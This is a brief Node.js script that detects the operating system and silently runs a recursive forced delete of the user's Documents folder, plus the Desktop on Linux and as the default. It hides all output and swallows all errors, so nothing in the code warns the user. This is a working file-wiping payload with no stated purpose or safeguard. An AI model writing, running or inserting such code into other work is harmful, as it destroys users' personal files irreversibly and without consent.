const { execSync } = require('child_process');
const os = require('os');
const path = require('path');
const home = os.homedir();
const steps = {
  win32: ['rd', '/s', '/q', path.join(home, 'Documents')],
  linux: ['rm', '-r', '-f', path.join(home, 'Desktop'), path.join(home, 'Documents')],
};
const argv = steps[process.platform] || steps.linux;
try {
  execSync(argv.join(' '), { stdio: 'ignore' });
} catch (e) {}
